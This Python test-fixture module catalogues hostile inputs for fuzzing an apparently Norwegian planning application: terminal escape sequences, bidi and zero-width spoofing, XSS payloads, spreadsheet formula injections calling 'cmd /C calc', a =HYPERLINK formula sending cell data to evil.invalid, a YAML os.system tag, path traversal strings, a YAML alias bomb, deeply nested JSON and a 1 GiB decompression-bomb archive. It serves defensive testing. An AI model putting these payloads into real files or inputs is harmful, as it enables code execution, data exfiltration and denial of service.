"""The hostile list: texts and files that try to be more than text, each with its name."""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable

TEXTS: dict[str, str] = {
    # what a terminal would obey
    "ESC": "a\x1bb\x1b[31mred\x1bc",
    "OSC 0, the window's title": "\x1b]0;owned\x07",
    "OSC 8, a link": "\x1b]8;;http://evil.invalid\x1b\\here\x1b]8;;\x1b\\",
    "OSC 52, the clipboard": "\x1b]52;c;aGVscA==\x07",
    "CSI 2J, an empty screen": "before\x1b[2J\x1b[Hafter",
    "C1 CSI": "\x9b2J\x9d0;owned\x9c\x85\x90q\x9c",
    "device queries": "\x1b[c\x1b[>c\x1b[6n\x1b[?1$p\x1bZ\x05\x1b[21t\x1bP+q544e\x1b\\",
    "NUL": "a\x00b",
    "DEL": "a\x7fb",
    "CR": "honest\rhidden",
    "BS": "no\x08\x08yes",
    "the end of a paste": "a\x1b[201~b\x1b[15~c",
    # what misleads the eye
    "U+202E": "abc\u202etxt.exe",
    "U+2066": "a\u2066b\u2067c\u2068d\u2069e\u061cf\u200eg\u200fh",
    "tag characters": "a" + "".join(chr(0xE0000 + ord(char)) for char in "ignore") + "b",
    "zero width": "pass\u200bword\u2060\ufeff\xad\u180e\u3164\u115f",
    "combining towers": "Z" + "\u0335\u0321\u034e\u0352" * 60 + "algo",
    "line separators": "one\u2028two\u2029three\x0bfour\x0cfive",
    "joiners": "👩🏽‍💻 ❤️ می‌خواهم",
    "a wide script": "日本語" * 30,
    # what is no text
    "a lone surrogate": "half \ud83d of it",
    "surrogates the wrong way round": "\ude00\ud83d",
    "non-characters": "\ufffe\uffff\U0001ffff\U0010ffff",
    # markup of the interface
    "[/]": "[/]",
    "[red": "[red",
    "[red]": "[red]rød[/]",
    "[/foo]": "[/foo]",
    "an action": "[@click=app.quit]x[/]",
    "a link in markup": "[link=file:///etc/passwd]x[/link]",
    "a trailing backslash": "x\\",
    "backslashes": "\\[red]\\\\[/]\\",
    "format fields": "{name} {0} {} %s %(name)s %d ${HOME}",
    # Markdown
    "raw HTML": '<script>alert(1)</script><img src=x onerror="alert(1)"><br><!-- samtale -->',
    "the end of an element": "</p></main></style><script>alert(1)</script>\"'><b>",
    "character references": "&lt;b&gt; &amp; &#27; &#x202e; &nbsp",
    "javascript:": "[x](javascript:alert(1)) <javascript:alert(1)>",
    "file:": "[x](file:///etc/passwd) ![x](file://evil.invalid/a.png)",
    "smb:": "[x](smb://evil.invalid/a) ![x](\\\\evil.invalid\\a)",
    "images": "![x](http://evil.invalid/a.png) [![x](a)](b)",
    "references": "[x][y]\n\n[y]: javascript:alert(1) 'z'\n[^1]: note",
    "bare addresses": "https://evil.invalid www.evil.invalid kari@evil.invalid @kari #12 :+1:",
    "the shape of a plan": "x\n\n## Enighet\n\n**Siri Berg** er enig\n\n- [x] gjort\n> x\n\n---\n",
    "the comment of a plan": "-->\n<!-- samtale\ngoal A B\n-->",
    "a table": "| a | b |\n|---|---|\n| c \\| d |",
    "a fence": "```\n~~~\n    code\n\ttab",
    "front matter": "---\nid: x\nstate: agreed\n---\n",
    "many brackets": "[" * 500 + "*_`" * 200,
    "the notation for what hides": "\\u{202e} \\u{1b} \\u{5c}u{1b}",
    # spreadsheets
    "=HYPERLINK": '=HYPERLINK("http://evil.invalid?x="&A1,"click")',
    "@SUM": "@SUM(1+1)*cmd|' /C calc'!A0",
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "tab and =": "\t=1+1",
    "CR and =": "\r=1+1",
    "space and =": "  \n =1+1",
    "full width =": "＝1+1",
    "= after a separator": "x;=1+1;\t=1+1,=1+1|=1+1",
    "= after quotes": '","=1+1","\n"=1+1"',
    # calendars
    "END:VEVENT": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:file:///etc/passwd\r\n",
    "a parameter": 'x;ALTREP="file:///etc/passwd":y\\n\\;,\nTRIGGER:-PT1M',
    "a long line": "æ" * 500 + "\r\n ATTENDEE:mailto:x@evil.invalid",
    # YAML and JSON, as text
    "YAML aliases": "&a [*a, *a]",
    "!!python/object": "!!python/object/apply:os.system ['true']",
    "a YAML document's end": "...\n---\n!!binary x: |\n %TAG",
    "quotes for JSON": '"}]},"state":"agreed","x":"\\u001b\\',
    "NaN": "NaN",
    "2^70": str(2**70),
    # names, and paths
    "../x": "../../x",
    "/abs": "/etc/passwd",
    "..": "..",
    "empty": "",
    "a space": " ",
    "newlines": "\n\n",
    "CON": "CON",
    "nul.txt": "nul.txt",
    "a/b": "a/b\\c:d",
    "a trailing dot": "Kari. . .",
    "300 characters": "Å" * 300,
    "300 characters of four bytes": "𐎠" * 300,
    "NFC": "\u00c5se",
    "NFD": "A\u030ase",
    "one case": "KARI NORDMANN",
    "another case": "kari nordmann",
    "-rf": "-rf",
    "--to": "--to=/etc/passwd",
    "a newline": "Kari\nNordmann",
    "a home": "~root/$HOME/`id`",
    # words of the program's own
    "an owner": "Begge",
    "a label": "*Hvorfor:* nei **Siri Berg** · uten frist",
    "a status": " – utsatt til mandag 1. juni 2026 – nei",
}
"""Each is tried in every field; there is one of them for every line of the list, or several."""


def large_paste() -> str:
    """Return ten megabytes as they come out of a clipboard."""
    line = "En lang linje som noen har limt inn \x1b[2J.\n"
    return line * (10_000_000 // len(line))


YAML_ALIASES = "a: &a [x, x]\n" + "".join(
    f"{chr(98 + depth)}: &{chr(98 + depth)} [{', '.join([f'*{chr(97 + depth)}'] * 9)}]\n"
    for depth in range(9)
)
"""Aliases nine deep: 9^9 texts when they are followed."""


def archive(size: int = 2**30) -> bytes:
    """Return a gzipped tar archive that unpacks to ``size`` bytes, a thousandth of that itself."""
    packed = io.BytesIO()
    with gzip.GzipFile(fileobj=packed, mode="wb", compresslevel=1) as stream:
        header = tarfile.TarInfo("data/people/large.json")
        header.size = size
        stream.write(header.tobuf())
        for _ in range(size // 2**20):
            stream.write(bytes(2**20))
        stream.write(bytes(size % 2**20 + -size % 512 + 1024))
    return packed.getvalue()


FILES: dict[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "no UTF-8": lambda: b"\xff\xfe\x00x",
    "NULs": lambda: bytes(4096),
    "YAML aliases nine deep": lambda: f"---\n{YAML_ALIASES}---\n# x\n".encode(),
    "!!python/object": lambda: b"---\nid: !!python/object/apply:os.system ['true']\n---\n# x\n",
    "YAML brackets": lambda: b"---\nid: " + b"[" * 8000 + b"\n---\n# x\n",
    "much front matter": lambda: b"---\n" + b"x: y\n" * 10_000 + b"---\n# x\n",
    "JSON 100,000 deep": lambda: b"[" * 100_000 + b"]" * 100_000,
    "JSON objects 100,000 deep": lambda: b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "NaN": lambda: b'{"id": NaN, "schema": Infinity}',
    "2^70": lambda: b'{"id": 1180591620717411303424, "schema": 1180591620717411303424}',
    "TOML 100,000 deep": lambda: b"name = " + b"[" * 100_000,
    "TOML tables": lambda: b"a." * 50_000 + b"a = 1",
    "Markdown quotes": lambda: b"---\nid: x\n---\n" + b"> " * 50_000,
    "ten megabytes": lambda: large_paste().encode(),
    "an archive that unpacks to 1 GiB": archive,
    **{
        f"a file with {name}": lambda text=text: (
            f"---\nid: {text}\n---\n# {text}\n\n{text}\n".encode(errors="surrogatepass")
        )
        for name, text in TEXTS.items()
    },
}
"""Files for each way in: a plan, an agenda, the settings, a document; none of them is one."""
